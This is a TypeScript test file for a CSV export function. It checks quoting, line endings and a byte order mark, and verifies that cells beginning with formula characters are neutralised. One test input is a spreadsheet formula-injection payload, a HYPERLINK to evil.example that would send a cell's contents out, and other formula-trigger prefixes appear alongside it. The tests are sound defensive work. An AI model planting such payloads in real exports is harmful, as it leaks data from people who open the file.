import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvOf } from '../../src/downloads/csv.ts';

const byteOrderMark = '\uFEFF';

test('a table has a byte order mark, ends of lines as in RFC 4180, and quotes where it must', () => {
  expect(csvOf(['Order', 'For'], [['1', 'a, "b"\nc']])).toBe(`${byteOrderMark}Order,For\r\n1,"a, ""b""\nc"\r\n`);
});

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1)',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u200B=1',
  '\u202E=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
])('a spreadsheet calculates nothing of %j', (typed) => {
  const [[cell] = []] = parse(csvOf([typed], []), { bom: true }) as string[][];
  expect(cell).toMatch(/^'/);
});

test.each(['3872.00', 'Contoso - Lisbon', "O'Neill", 'a=b', '日本', '1.5'])('%s stands as it is', (typed) => {
  expect(csvOf([typed], [])).toBe(`${byteOrderMark}${typed}\r\n`);
});

test('whatever was typed, each cell comes back in its place', () => {
  const cell = fc.string({ unit: 'binary', maxLength: 20 });
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
      const table = csvOf(['a', 'b', 'c'], rows);
      const read = parse(table, { bom: true, record_delimiter: '\r\n' }) as string[][];
      expect(read).toHaveLength(rows.length + 1);
      for (const cells of read) {
        expect(cells).toHaveLength(3);
        for (const text of cells) expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
      }
    }),
  );
});
